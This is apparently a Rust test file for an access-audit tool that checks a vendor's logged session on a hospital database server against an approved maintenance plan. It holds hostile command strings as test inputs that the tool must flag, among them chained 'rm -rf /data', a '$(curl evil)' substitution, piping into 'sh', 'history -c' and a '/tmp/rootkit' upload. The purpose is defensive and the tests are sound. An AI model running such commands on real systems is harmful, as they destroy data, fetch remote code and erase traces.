use super::*;
use crate::refusal::Refusal;
use crate::target::Witness;
use crate::ids::{AccountId, PlanId, VendorId};
use crate::plan::content::{FileIn, PlanContent, TargetUse};
use crate::plan::state::PlanState;

const NOW: Timestamp = Timestamp(1_800_000_000_000);

fn plan(commands: &[&str]) -> Plan {
    let target = TargetId::from_random([2; 10]);
    let content = PlanContent {
        workers: vec![PersonId::from_random([3; 10])],
        targets: vec![TargetUse { target, account: AccountId::from_random([4; 10]), functions: BTreeSet::from([Function::Shell, Function::Sftp]), files: crate::target::FileRight::ALL.into(), limits: Default::default(), forwards: Vec::new(), key_window: false }],
        from: NOW,
        until: NOW.plus(std::time::Duration::from_secs(3600)),
        commands: commands.iter().map(|line| (*line).to_owned()).collect(),
        bring_in: vec![FileIn { name: "app.war".into(), sha256: String::new(), sanitised: String::new() }],
        ..PlanContent::default()
    };
    Plan {
        state: PlanState::InProgress,
        revision: 1,
        content,
        ..Plan::blank(PlanId::from_random([1; 10]), "2026-0001".into(), VendorId::from_random([5; 10]), PersonId::from_random([3; 10]), NOW)
    }
}

fn facts(commands: &[&str], files: Vec<FileSeen>) -> SessionFacts {
    SessionFacts {
        session: SessionId::from_random([6; 10]),
        person: PersonId::from_random([3; 10]),
        person_name: "佐藤 健".into(),
        target: TargetId::from_random([2; 10]),
        target_name: "ehr-db01".into(),
        account: "maint".into(),
        source: "192.0.2.7".into(),
        line: "本社 VPN".into(),
        device: String::new(),
        device_proof: String::new(),
        device_deviation: String::new(),
        started: NOW,
        ended: Some(NOW),
        cause: Some("closed".into()),
        functions: BTreeSet::from([Function::Shell]),
        refused: Vec::new(),
        forwards: Vec::new(),
        unread: false,
        diary: false,
        key_window: false,
        witness: Witness::None,
        witnesses: Vec::new(),
        pauses: 0,
        paused_ms: 0,
        paused_at_ms: None,
        commands: (0_u64..).zip(commands).map(|(at_ms, text)| CommandSeen { at_ms, text: (*text).to_owned(), channel: 1, output: 0 }).collect(),
        files,
    }
}

fn compared(planned: &[&str], commands: &[&str], files: Vec<FileSeen>) -> Vec<Finding> {
    reconcile(&plan(planned), &[facts(commands, files)], &Names { persons: &[], targets: &[] })
}

fn verdict_of(planned: &[&str], command: &str) -> Option<Verdict> {
    compared(planned, &[command], Vec::new()).into_iter().find(|row| row.item == Item::Command && row.actual == command).map(|row| row.verdict)
}

#[test]
fn a_planned_line_covers_no_second_command_behind_it() {
    let planned = ["systemctl restart", "ps aux | grep java"];
    for (command, verdict) in [
        ("systemctl restart tomcat", Verdict::Match),
        ("ps aux | grep java", Verdict::Match),
        ("systemctl restart tomcat; rm -rf /data", Verdict::NotPlanned),
        ("systemctl restart tomcat && rm -rf /data", Verdict::NotPlanned),
        ("systemctl restart $(curl evil)", Verdict::NotPlanned),
        ("systemctl restart tomcat\nrm -rf /data", Verdict::NotPlanned),
        ("systemctl\nrestart", Verdict::NotPlanned),
        ("ps aux | grep java | sh", Verdict::NotPlanned),
    ] {
        assert_eq!(verdict_of(&planned, command), Some(verdict), "{command:?}");
    }
}

#[test]
fn what_only_looks_is_left_out_and_what_only_seems_to_is_not() {
    for command in HARMLESS.iter().chain(&HARMLESS_ALONE) {
        assert_eq!(verdict_of(&["psql"], command), None, "pages name {command} as one that is not compared");
    }
    for quiet in ["ls -la /var/log", "cd /opt", "date +%F", "hostname", "history"] {
        assert_eq!(verdict_of(&["uptime"], quiet), None, "{quiet:?}");
    }
    for loud in ["ls\nrm -rf /data", "date -s 2020-01-01", "hostname evil", "history -c", "ls; rm x"] {
        assert_eq!(verdict_of(&["uptime"], loud), Some(Verdict::NotPlanned), "{loud:?}");
    }
}

fn file(path: &str, bytes: u64, ok: bool) -> FileSeen {
    FileSeen { at_ms: 1, op: "put".into(), path: path.into(), bytes, sha256: None, ok, kept: None }
}

#[test]
fn bytes_that_moved_are_compared_also_if_the_target_told_a_failure() {
    let rows = compared(&[], &[], vec![file("/tmp/x", 10, false), file("/tmp/y", 0, false), file("/opt/app.war", 10, false), file("/opt/app.war", 99, true)]);
    let seen: Vec<(Verdict, bool)> = rows.iter().filter(|row| row.item == Item::File).map(|row| (row.verdict, row.actual.contains("app.war"))).collect();
    assert_eq!(seen, [(Verdict::NotPlanned, false), (Verdict::Match, false), (Verdict::Different, true), (Verdict::Match, true)]);
}

#[test]
fn what_failed_and_changed_nothing_is_shown_and_held_against_the_right_alone() {
    let op = |op: &str, path: &str| FileSeen { op: op.into(), ..file(path, 0, false) };
    let tried = vec![op("rename", "/srv/a → /srv/b"), op("get", "/srv/typo"), op("list", "/none")];
    let of = |rows: Vec<Finding>| rows.into_iter().filter(|row| row.item == Item::File && !row.actual.is_empty()).map(|row| (row.verdict, row.planned, row.actual)).collect::<Vec<_>>();
    let text = |planned: &str, actual: &str| (Verdict::Match, planned.to_owned(), actual.to_owned());
    assert_eq!(of(compared(&[], &[], tried.clone())), [text("right:rename", "rename /srv/a → /srv/b (failed)"), text("right:download", "get /srv/typo (failed)")]);
    let mut none = plan(&[]);
    none.content.targets[0].files.clear();
    let rows = of(reconcile(&none, &[facts(&[], tried)], &Names { persons: &[], targets: &[] }));
    assert!(rows.iter().all(|(verdict, planned, _)| *verdict == Verdict::NotPlanned && planned.is_empty()), "{rows:?}");
}

#[test]
fn an_act_on_a_file_that_was_refused_is_a_difference_of_its_own() {
    let mut planned = plan(&[]);
    planned.content.targets[0].files = BTreeSet::from([crate::target::FileRight::Download]);
    let mut there = facts(&[], Vec::new());
    let right = |right: &str| Refusal::FileRightNotInPlan { right: right.into() };
    let at = |seconds| NOW.plus(std::time::Duration::from_secs(seconds));
    there.was_refused(at(7), "sftp remove /srv/data", &right("delete"));
    there.was_refused(at(9), "sftp remove /srv/data", &right("delete"));
    there.was_refused(at(10), "sftp close", &right("handle"));
    there.was_refused(at(11), "sftp lsetstat@openssh.com", &Refusal::FunctionNotInPlan { function: "sftp extension".into() });
    let rows = reconcile(&planned, &[there], &Names { persons: &[], targets: &[] });
    let refused: Vec<&Finding> = rows.iter().filter(|row| row.item == Item::Refused).collect();
    let [row] = refused.as_slice() else { panic!("{refused:?}") };
    assert_eq!((row.planned.as_str(), row.actual.as_str(), row.at_ms), ("download", "SKS-4301 2 times: sftp remove /srv/data", Some(7_000)));
    assert!(row.is_open(), "the hospital says what it makes of the attempt");
}

#[test]
fn an_upload_that_was_not_let_pass_is_neither_brought_nor_unsaid() {
    let refused = |path: &str| FileSeen { op: PUT_REFUSED.into(), ..file(path, 10, false) };
    let rows = compared(&[], &[], vec![refused("/opt/app.war"), refused("/tmp/evil")]);
    let seen: Vec<(Verdict, &str)> = rows.iter().filter(|row| row.item == Item::File).map(|row| (row.verdict, row.planned.as_str())).collect();
    assert_eq!(seen, [(Verdict::NotDone, "app.war"), (Verdict::NotPlanned, "")]);
    assert!(rows.iter().filter(|row| row.item == Item::File).all(|row| row.actual.starts_with("put-refused ")));
}

#[test]
fn a_flood_of_planned_commands_hides_no_difference() {
    let mut commands = vec!["systemctl restart a"; 5_000];
    commands.extend(["rm -rf /data"; 3_000]);
    let mut cut = facts(&commands, vec![file("/tmp/rootkit", 10, true)]);
    cut.cause = Some("cut".into());
    let rows = reconcile(&plan(&["systemctl restart"]), &[cut], &Names { persons: &[], targets: &[] });
    assert!(rows.len() <= limits::FINDINGS, "{}", rows.len());
    assert!(rows.iter().any(|row| row.actual.contains("/tmp/rootkit") && row.is_open()));
    assert!(rows.iter().any(|row| row.item == Item::Ending && row.is_open()));
    // Every row of the flood is counted, and what folds the differences waits for a decision like any of them.
    for verdict in [Verdict::Match, Verdict::NotPlanned] {
        let shown = rows.iter().filter(|row| row.item == Item::Command && row.verdict == verdict && !row.is_folded()).count();
        let folded = rows.iter().find(|row| row.item == Item::Command && row.verdict == verdict && row.is_folded()).unwrap();
        let rest = if verdict == Verdict::Match { 5_000 - shown } else { 3_000 - shown };
        assert_eq!(folded.actual, format!("他 {rest} 件 / {rest} more"));
        assert!(shown > 0 && folded.is_open() == (verdict == Verdict::NotPlanned));
    }
}

#[test]
fn a_comparison_made_again_keeps_what_was_said_and_adds_what_is_new() {
    let mut before = compared(&["uptime"], &["rm a", "rm b"], Vec::new());
    let at = before.iter().position(|row| row.actual == "rm a").unwrap();
    before[at].reason = "容量確保".into();
    before[at].decision = Some(Decision::Incident);
    let after = renewed(&before, compared(&["uptime"], &["rm a", "rm b", "rm c"], Vec::new()));
    let of = |text: &str| after.iter().filter(|row| row.actual == text).map(|row| row.decision).collect::<Vec<_>>();
    assert_eq!((of("rm a"), of("rm b"), of("rm c")), (vec![Some(Decision::Incident)], vec![None], vec![None]));
    let gone = renewed(&before, compared(&["uptime"], &["rm b"], Vec::new()));
    assert!(gone.iter().any(|row| row.decision == Some(Decision::Incident)), "a decision does not vanish");
}

#[test]
fn a_planned_look_that_was_taken_counts_as_done() {
    let rows = compared(&["uptime"], &["uptime", "ls -l"], Vec::new());
    let commands: Vec<Verdict> = rows.iter().filter(|row| row.item == Item::Command).map(|row| row.verdict).collect();
    assert_eq!(commands, [Verdict::Match], "the planned look is done, and the other is not worth a row");
}

#[test]
fn a_copying_program_that_sets_the_time_of_its_file_makes_no_difference() {
    let touch = |path: &str| FileSeen { op: "setattr".into(), ..file(path, 0, true) };
    let verdicts = |files| -> Vec<Verdict> { compared(&[], &[], files).iter().filter(|row| row.item == Item::File).map(|row| row.verdict).collect() };
    assert_eq!(verdicts(vec![file("/srv/app.war", 9, true), touch("/srv/app.war")]), [Verdict::Match]);
    assert!(verdicts(vec![touch("/etc/shadow")]).contains(&Verdict::NotPlanned), "rights of another file are another matter");
}

#[test]
fn what_was_switched_on_is_held_against_what_was_used() {
    use crate::target::{FileRight, ForwardTo, TransferLimits};
    let mut planned = plan(&[]);
    let used = &mut planned.content.targets[0];
    used.files = BTreeSet::from([FileRight::Upload, FileRight::Delete]);
    used.limits = TransferLimits { upload_bytes: Some(100), upload_files: Some(2), ..TransferLimits::default() };
    used.forwards = vec![ForwardTo { host: "DB01".into(), port: 5432, full: false }];
    planned.content.witness = Witness::Watch;
    let op = |op: &str, path: &str, bytes| FileSeen { op: op.into(), ..file(path, bytes, true) };
    let mut there = facts(&[], vec![file("/opt/app.war", 101, true), op("remove", "/tmp/old", 0), op("rename", "/tmp/a", 0)]);
    let forward = |place: &str| ForwardSeen { at_ms: 7, place: place.into(), times: 2, to_target: 10, to_worker: 20 };
    there.forwards = vec![forward("db01:5432"), forward("db01:22")];
    there.key_window = true;
    there.pauses = 2;
    there.paused_ms = 63_400;
    let rows = reconcile(&planned, &[there], &Names { persons: &[], targets: &[] });
    let of = |item| rows.iter().filter(|row| row.item == item).map(|row| (row.verdict, row.planned.as_str(), row.actual.as_str())).collect::<Vec<_>>();
    assert_eq!(of(Item::Rights), [(Verdict::NotPlanned, "upload, delete", "upload, delete, rename")]);
    assert_eq!(of(Item::Volume), [(Verdict::Different, "upload 100 B, 2 files", "upload 101 B, 1 files")]);
    assert_eq!(of(Item::Forward), [
        (Verdict::Match, "DB01:5432", "db01:5432 2 times, 10 B up, 20 B down"),
        (Verdict::NotPlanned, "", "db01:22 2 times, 10 B up, 20 B down"),
    ]);
    assert_eq!(of(Item::KeyWindow), [(Verdict::NotPlanned, "", "used")]);
    assert_eq!(of(Item::Witness), [(Verdict::NotDone, "watch", "")]);
    assert_eq!(of(Item::Pause), [(Verdict::NotPlanned, "", "2 times, 63 s")]);
    let files = of(Item::File);
    assert!(files.contains(&(Verdict::Match, "right:delete", "remove /tmp/old (0 bytes)")), "the right was approved, and no plan lists what is deleted");
    assert!(files.contains(&(Verdict::NotPlanned, "", "rename /tmp/a (0 bytes)")));
}

#[test]
fn within_what_was_planned_nothing_differs() {
    let mut planned = plan(&[]);
    planned.content.targets[0].key_window = true;
    planned.content.supervision = true;
    let mut there = facts(&[], vec![file("/opt/app.war", 10, true)]);
    there.key_window = true;
    there.witnesses = vec!["鈴木".into()];
    let rows = reconcile(&planned, &[there], &Names { persons: &[], targets: &[] });
    let open: Vec<&Finding> = rows.iter().filter(|row| row.is_open()).collect();
    assert!(open.is_empty(), "{open:?}");
    assert!(rows.iter().any(|row| row.item == Item::Witness && row.planned == "wish" && row.actual == "鈴木"));
}

#[test]
fn what_a_crash_left_unread_is_an_open_row() {
    let unread = SessionFacts { unread: true, cause: Some("vanished".into()), ..facts(&[], Vec::new()) };
    let rows = reconcile(&plan(&[]), &[unread], &Names { persons: &[], targets: &[] });
    assert!(rows.iter().any(|row| row.item == Item::Ending && row.actual == "unread" && row.is_open()));
    assert!(!compared(&[], &[], Vec::new()).iter().any(|row| row.actual == "unread"));
}

#[test]
fn each_session_on_a_target_without_a_log_owes_an_entry_of_the_diary() {
    use crate::plan::{DiaryEntry, Mark, Report, ReportContent};
    let owes = |n: u8| SessionFacts { session: SessionId::from_random([n; 10]), diary: true, ..facts(&[], Vec::new()) };
    let sessions = [owes(7), owes(8), facts(&[], Vec::new())];
    let entry = DiaryEntry { session: sessions[0].session.clone(), text: "基板を交換した".into() };
    let blank = DiaryEntry { session: sessions[1].session.clone(), text: " \n".into() };
    let written = Mark { by: PersonId::from_random([3; 10]), name: "佐藤 健".into(), at: NOW };
    let mut plan = plan(&[]);
    assert!(diary(&plan, &sessions).is_empty(), "nothing is owed before there is a report");
    plan.report = Some(Report { content: ReportContent { diary: vec![entry, blank], ..ReportContent::default() }, written, countersigned: None });
    let rows = diary(&plan, &sessions);
    assert_eq!(rows.iter().map(|row| (row.verdict, row.actual.as_str(), row.session.clone())).collect::<Vec<_>>(), [
        (Verdict::Match, "基板を交換した", Some(sessions[0].session.clone())),
        (Verdict::NotDone, "", Some(sessions[1].session.clone())),
    ]);
    assert!(rows[1].planned.starts_with("ehr-db01 佐藤 健 "), "it says whose work on what is not told of: {}", rows[1].planned);
}

#[test]
fn signs_that_say_nothing_are_no_entry_of_the_diary() {
    for empty in ["", "…", ".", "\u{200b}", "\u{3164}", "\u{ffa0}", "。ー", "\u{2800}", "ﾞ"] {
        assert!(!empty.chars().any(is_written), "{empty:?}");
    }
    for words in ["更新した", "カーネル", "ｶﾅ", "patch 1", "５"] {
        assert!(words.chars().any(is_written), "{words}");
    }
}
